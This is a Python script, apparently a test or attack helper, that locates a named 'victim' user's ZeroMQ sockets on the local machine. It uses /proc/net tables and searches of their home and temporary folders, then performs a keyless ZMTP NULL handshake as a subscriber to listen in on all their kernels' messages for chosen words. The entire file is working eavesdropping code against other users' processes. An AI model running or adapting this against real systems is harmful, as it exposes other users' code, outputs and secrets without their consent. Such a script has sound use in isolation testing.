"""Listen to other people's kernels: subscribe, without a key, to every socket of theirs that can be found.

ZMTP 3.0 by hand (https://rfc.zeromq.org/spec/23): greeting, a NULL handshake as SUB, a subscription to everything.
Arguments: `victim`, whose sockets; `words`, what to look for; `listen`, for how many seconds.
"""

import contextlib
import json
import os
import pwd
import re
import select
import socket
import sys
import time

arguments = json.loads(sys.argv[1])
victim = pwd.getpwnam(arguments["victim"])
words = arguments["words"].encode()
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" + bytes(31)
READY = b"\x04\x19\x05READY\x0bSocket-Type\x00\x00\x00\x03SUB"
EVERYTHING = b"\x00\x01\x01"


def tcp_addresses():
    """Where the user's processes listen, from the kernel's tables, which everybody may read."""
    for table, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        with open(f"/proc/net/{table}") as file:
            for line in file.readlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and int(fields[7]) == victim.pw_uid:
                    yield (
                        family,
                        ("127.0.0.1" if family == socket.AF_INET else "::1", int(fields[1].rpartition(":")[2], 16)),
                    )


def unix_addresses():
    """Every named Unix socket (the table does not say whose), and those where the user's kernels keep theirs."""
    with open("/proc/net/unix") as file:
        for line in file.readlines()[1:]:
            path = line.split(maxsplit=7)[7:]
            if path:
                name = path[0].rstrip("\n")
                yield socket.AF_UNIX, "\0" + name[1:] if name.startswith("@") else name
    for top in (victim.pw_dir, f"/run/user/{victim.pw_uid}", "/tmp", "/dev/shm"):
        for folder, _, names in os.walk(top):
            for name in names:
                if re.search(r"-ipc-\d|\.sock", name):
                    yield socket.AF_UNIX, os.path.join(folder, name)


def shakes_hands(one):
    """Whether a ZMTP socket answers, and accepts us without a key. It expects each part only after its last answer."""
    one.sendall(GREETING)
    greeting = b""
    while len(greeting) < 64:
        part = one.recv(64 - len(greeting))
        if not part or (part[:1] != b"\xff" and not greeting):
            return False
        greeting += part
    one.sendall(READY)
    return bool(one.recv(200))


listening, tried, got = {}, 0, []
for family, address in {*tcp_addresses(), *unix_addresses()}:
    tried += 1
    one = socket.socket(family)
    one.settimeout(1)
    with contextlib.suppress(OSError):
        one.connect(address)
        if shakes_hands(one):
            one.sendall(EVERYTHING)
            one.setblocking(False)
            listening[one] = [address, b""]

until = time.monotonic() + arguments["listen"]
while listening and time.monotonic() < until:
    for one in select.select(list(listening), [], [], 0.5)[0]:
        data = b""
        with contextlib.suppress(OSError):
            data = one.recv(65536)
        if not data:
            del listening[one]
            continue
        listening[one][1] += data
        if words in listening[one][1]:
            got.append(f"{listening[one][0]}: {words.decode()}")
            del listening[one]
print(json.dumps({"tried": tried, "got": got}))
